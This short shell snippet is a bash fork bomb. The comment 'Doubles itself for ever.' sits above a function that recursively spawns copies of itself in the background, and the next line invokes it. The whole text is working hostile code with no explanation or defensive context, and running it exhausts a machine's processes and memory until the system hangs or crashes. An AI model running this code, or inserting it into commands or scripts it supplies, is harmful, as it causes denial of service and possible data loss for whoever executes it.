# Doubles itself for ever.
f() { f | f & f; }
f
